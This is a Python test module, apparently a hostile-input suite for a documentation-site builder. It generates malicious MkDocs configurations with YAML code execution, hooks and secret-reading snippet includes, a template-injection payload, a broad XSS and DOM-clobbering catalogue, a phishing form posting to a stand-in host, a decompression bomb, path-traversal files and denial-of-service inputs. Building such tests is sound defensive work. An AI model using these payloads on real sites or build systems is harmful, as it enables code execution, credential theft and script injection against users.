"""Documentation: configurations that run, pages that act, files that take the place of others."""

from __future__ import annotations

import json
import struct

from tests.hostile.bait import Attack, Bait, entity


def configuration(bait: Bait, name: str) -> None:
    """Hooks, plugins, templates, inherited and foreign folders: data, without effect."""
    touch = f"open({str(bait.markers / name)!r}, 'w').close()\n"
    mkdocs = (
        f"site_name: {json.dumps(bait.markup)}\nsite_url: javascript:{bait.script}\nedit_uri: javascript:{bait.script}\n"
        f"hooks: [evil.py]\nplugins: [evil, {{gen-files: {{scripts: [evil.py]}}}}, macros]\nextra_javascript: [https://x.example.com/x.js]\n"
        f"INHERIT: {bait.outside}/mkdocs.yml\nsite_dir: {bait.outside}\ntheme: {{name: material, custom_dir: theme}}\n"
        f"copyright: {json.dumps(bait.markup)}\nextra: {{token: !ENV PROBE_SECRET, t: !!python/object/apply:os.system ['touch {bait.markers}/tag']}}\n"
        f"markdown_extensions:\n  - evil\n  - pymdownx.snippets: {{base_path: ['/'], url_download: true, auto_append: ['{bait.outside}/secret.txt']}}\n"
        f"  - pymdownx.b64: {{base_path: {bait.outside}}}\n  - plantuml_markdown: {{plantuml_cmd: sh evil.sh}}\n"
        f"nav:\n  - {json.dumps(bait.markup)}: index.md\n  - Ext: javascript:{bait.script}\n  - Out: '!include {bait.outside}/mkdocs.yml'\n"
    )
    snippets = "".join(
        f'--8<-- "{path}"\n\n'
        for path in (f"{bait.outside}/secret.txt", ".git/config", "../outside/secret.txt", ".env")
    )
    bait.write(name, {
        "catalog-info.yaml": entity(name, "x", "  annotations: {backstage.io/techdocs-ref: 'dir:.'}\n"), "mkdocs.yml": mkdocs,
        "evil.py": touch, "docs/evil.py": touch, "markdown.py": touch, "sitecustomize.py": touch, "evil.sh": f"touch {bait.markers}/sh\n",
        "theme/main.html": "{{ cycler.__init__.__globals__.os.popen('id') }}", ".env": f"TOKEN={bait.word('outside')}\n",
        "docs/index.md": f"# Hello\n\n{bait.keep(name)}\n\n{snippets}```plantuml\nA -> B\n```\n",
    })  # fmt: skip


PAGES = {
    "script": "<script>@</script>\n\n<svg><script href=data:,@></script></svg>\n\n<script src=//x.example.com/@.js></script>",
    "events": "<img src=x onerror=@>\n\n<details open ontoggle=@><summary>s</summary></details>\n\n<svg/onload=@>\n\n<a onfocus=@ autofocus tabindex=1>x</a>",
    "urls": "[a](javascript:@)\n\n[b](JaVaScRiPt:@)\n\n<a href=\"&#1;javascript:@\">d</a>\n\n<a href=\"java\tscript:@\">e</a>\n\n![i](javascript:@)\n\n[v](vbscript:@)\n\n[j](data:text/html,@)",
    "attributes": 'A\n{: onclick="@" style="background:url(//x.example.com/@)" }\n\n[l](https://example.com){: href="javascript:@" }',
    "frames": "<iframe srcdoc=\"<script>@</script>\"></iframe>\n\n<object data=//x.example.com/@></object>\n\n<embed src=//x.example.com/@>\n\n<base href=//x.example.com/@/>",
    "meta": "<meta http-equiv=refresh content=\"0;url=//x.example.com/@\">\n\n<link rel=stylesheet href=//x.example.com/@.css>\n\n<style>@import '//x.example.com/@';</style>",
    "form": "<form action=https://x.example.com/@ method=post><input name=user><input type=password name=@><button formaction=javascript:@>in</button></form>",
    "overlay": "<div style=\"position:fixed;inset:0;background:url(//x.example.com/@)\">over</div>",
    "mutation": "<svg></p><style><a id=\"</style><img src=1 onerror=@>\">\n\n<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=@&gt;\">\n\n<noscript><p title=\"</noscript><img src=x onerror=@>\">",
    "extensions": "<div markdown=1 onclick=@>\n*x*\n</div>\n\n*[HTML]: <img src=x onerror=@>\n\nHTML[^1]\n\n[^1]: <script>@</script>\n\n``` {.py title=\"<script>@</script>\"}\nx\n```",
    "diagrams": "```mermaid\n%%{init: {\"securityLevel\": \"loose\"}}%%\nflowchart LR\n  A[\"<img src=x onerror=@>\"]\n  click A \"javascript:@\"\n```\n\n```graphviz dot a.svg\ndigraph { a [URL=\"javascript:@\" image=\"/etc/hostname\"] }\n```",
    "clobber": "<div id=\"__config\" data-md-component=x>c</div>\n\n## __search {#__search}\n\n<a name=location>l</a>\n\n<form id=ct-search name=body></form>\n\n<img name=createElement>",
    "quoted": "A sentence about `<img src=x onerror=@>` and \\<script\\>@\\</script\\> in words.",
}  # fmt: skip


def pages(bait: Bait, name: str) -> None:
    """A page for each way to bring HTML that acts; the words around it stay."""
    files = {
        f"docs/{key}.md": f"# {key}\n\n{bait.keep(name + key)} ordinary\n\n{text.replace('@', bait.script)}\n"
        for key, text in PAGES.items()
    }
    front = f"---\ntitle: {json.dumps(bait.markup)}\ndescription: {json.dumps(bait.markup)}\ntemplate: ../../x.html\nicon: ../../etc/hostname\nredirect: //x.example.com\n---\n# F\n"
    bait.write(name, {"docs/index.md": f"# Pages\n\n{bait.keep(name)}\n", "docs/front.md": front, **files})


def files(bait: Bait, name: str) -> None:
    """Files that act, control a host, are bigger than they look, or want the address of a page."""
    control = (
        "sw.js",
        "evil.html",
        "evil.xhtml",
        "CNAME",
        "_headers",
        "404.html",
        "robots.txt",
        "sitemap.xml",
        "a.svgz",
        ".htaccess",
        "a.wasm",
    )
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{bait.script}'><script>{bait.script}</script></svg>"
    bomb = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + struct.pack(">II", 30_000, 30_000) + b"\x01\0\0\0\0"
    taken = {
        "docs/index.html.md": "# Takes a file's name\n", "docs/index.json.md": "# And another's\n", "docs/index.json": "{}",
        "docs/pic.png.md": "# Folder\n", "docs/pic.png": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\0\0\0\0",
        "docs/sub.md": "# Page\n", "docs/sub/index.md": "# Its folder\n", "docs/sub/index.json": "{}", "docs/sub": None,
        "docs/a/index.md": "# a\n", "docs/A.md": "# A\n", "docs/cafe\u0301.md": "# d\n", "docs/caf\u00e9.md": "# c\n", "docs/con.md": "# con\n",
    }  # fmt: skip
    links = " ".join(
        f"[x]({path}) ![x]({path})"
        for path in (*control, "index.json", "sub/index.json", "pic.png", "p.svg", "bomb.png")
    )
    bait.write(name, {
        "docs/index.md": f"# Files\n\n{bait.keep(name)}\n\n{links}\n", "docs/p.svg": svg, "docs/bomb.png": bomb, "docs/<b>&x;.md": "# odd\n",
        "docs/--help.md": "# option\n", "docs/{{7*7}}.md": "# template\n", "docs/a b#c?d.md": "# marks\n", "docs/" + "x" * 240 + ".md": "# long\n",
        **{f"docs/{path}": f"<script>{bait.script}</script>" for path in control},
        **{path: text for path, text in taken.items() if text is not None},
    })  # fmt: skip


def endless(bait: Bait, name: str) -> None:
    """Pages that take for ever: stopped alone."""
    bait.write(name, {
        "docs/index.md": f"# Good\n\n{bait.keep(name)}\n", "docs/brackets.md": "[" * 60_000 + "\n\n" + "![" * 20_000,
        "docs/nesting.md": ">" * 3000 + " x\n\n" + "".join("    " * i + "- x\n" for i in range(300)), "docs/line.md": "x" * 600_000,
        "docs/s.txt": '--8<-- "docs/s.txt"\n--8<-- "docs/s.txt"\n', "docs/grow.md": '--8<-- "docs/s.txt"\n',
        "docs/front.md": "---\na: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(f"{chr(98 + i)}: &{chr(98 + i)} [{','.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(9)) + "---\n# F\n",
    })  # fmt: skip


ATTACKS: dict[str, Attack] = {"configuration": configuration, "pages": pages, "files": files, "endless": endless}
